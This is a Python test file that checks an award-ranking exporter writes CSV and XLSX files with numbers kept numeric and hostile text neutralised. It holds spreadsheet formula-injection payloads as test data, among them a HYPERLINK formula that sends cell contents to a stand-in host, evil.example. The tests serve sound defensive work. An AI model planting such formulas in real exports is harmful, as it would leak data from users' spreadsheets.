"""Exports: every figure, hostile text neutralized, numbers kept as numbers, UTF-8 BOM CSV."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from award.ranking import exports

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
CATEGORIES = [("4.1", "领导"), ("4.7", "结果")]
METHODS = [("mean", "Mean"), ("trimmed_mean", "Trimmed mean"), ("median", "Median")]
LABELS = {"status": {"ok": "Ranked"}, "reason": {"over_quota": "Outside the number of awards"},
          "verdict": {"stable": "Stable", "sensitive": "Sensitive"}}


def row(**overrides):
    values = {
        "position": 1, "application_id": 7, "rank": 1, "organization_name": "苏州精密制造有限公司", "sector": "C",
        "status": "ok", "sheet_count": 5, "total": "633.33", "categories": {"4.1": "70.00", "4.7": "250.50"},
        "method_totals": {"mean": "640.00", "trimmed_mean": "633.33", "median": "630.00"},
        "items": {"4.1.2": "30.00"}, "mean_z": "-1.25", "decided_by": None, "in_shortlist": True, "reason": None,
        "exclusions": [{"round": "document", "expert": "E5", "reason": "+consulted", "matched": True}],
        "flags": {"disagreements": ["document:4.1.2"], "incomplete_sheets": 0, "blacklist": []},
        "robustness": "sensitive", "flipped_by": ["E2"],
    }
    values.update(overrides)
    return values


def table(*rows):
    return exports.ranking_table(list(rows), categories=CATEGORIES, items=["4.1.2"], methods=METHODS, labels=LABELS)


@pytest.mark.parametrize(("name", "exported"), [
    ("=1+2", "'=1+2"),
    ("+86 512", "'+86 512"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=cmd", "'\t=cmd"),
    ("\r=cmd", "'\r=cmd"),
    ("苏州精密", "苏州精密"),
    ("a=b", "a=b"),
])
def test_hostile_names_are_exported_as_inert_text(name, exported):
    header, lines = table(row(organization_name=name))
    parsed = list(csv.reader(io.StringIO(exports.to_csv(header, lines).decode("utf-8-sig"), newline="")))
    assert dict(zip(parsed[0], parsed[1], strict=True))["Organization"] == exported
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(header, lines, title="x"))).active
    cell = sheet.cell(row=2, column=header.index("Organization") + 1)
    # XML stores a carriage return as a line feed; what matters is the leading apostrophe.
    assert cell.data_type == "s" and cell.value == exported.replace("\r", "\n")


def test_table_has_every_figure():
    header, [line] = table(row())
    cells = dict(zip(header, line, strict=True))
    assert cells["Total (official method)"] == 633.33
    assert cells["4.1 领导"] == 70.0 and cells["4.7 结果"] == 250.5
    assert cells["Total: Mean"] == 640.0 and cells["Total: Median"] == 630.0
    assert cells["4.1.2"] == 30.0 and cells["Mean z (leniency view)"] == -1.25
    assert cells["Excluded sheets"] == "E5: +consulted"
    assert cells["Robustness"] == "Sensitive" and cells["Removal changes the result"] == "E2"


def test_csv_is_utf8_with_bom_and_neutralizes_hostile_text():
    header, lines = table(row(organization_name=HOSTILE), row(application_id=8, rank=2, organization_name="@evil",
                                                               in_shortlist=False, reason="over_quota"))
    data = exports.to_csv(header, lines)
    assert data.startswith("\ufeff".encode())
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = dict(zip(parsed[0], parsed[1], strict=True))
    assert cells["Organization"] == "'" + HOSTILE
    assert cells["Excluded sheets"] == "E5: +consulted"  # starts with E: harmless
    assert cells["Total (official method)"] == "633.33"  # a number, not text
    assert cells["Mean z (leniency view)"] == "-1.25"  # negative numbers are not neutralized
    assert dict(zip(parsed[0], parsed[2], strict=True))["Organization"] == "'@evil"
    assert dict(zip(parsed[0], parsed[2], strict=True))["Reason"] == "Outside the number of awards"


def test_xlsx_keeps_numbers_and_writes_hostile_text_as_text():
    header, lines = table(row(organization_name=HOSTILE + "\x07bell"), row(application_id=9, rank=None, total=None,
                                                                            status="blacklisted",
                                                                            organization_name="-1+1"))
    data = exports.to_xlsx(header, lines, title="排名[2025]/终")
    book = load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "排名_2025__终"
    values = [[cell.value for cell in r] for r in sheet.iter_rows()]
    cells = dict(zip(values[0], values[1], strict=True))
    org = sheet.cell(row=2, column=values[0].index("Organization") + 1)
    assert org.data_type == "s" and org.value == "'" + HOSTILE + "bell"  # control character dropped
    assert cells["Total (official method)"] == 633.33 and isinstance(cells["Total (official method)"], float)
    assert cells["Rank"] == 1 and cells["Shortlisted"] == "yes" and isinstance(cells["Rank"], int)
    second = dict(zip(values[0], values[2], strict=True))
    assert second["Organization"] == "'-1+1" and second["Total (official method)"] is None
    assert second["Status"] == "blacklisted"  # an unknown code is shown as it is
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
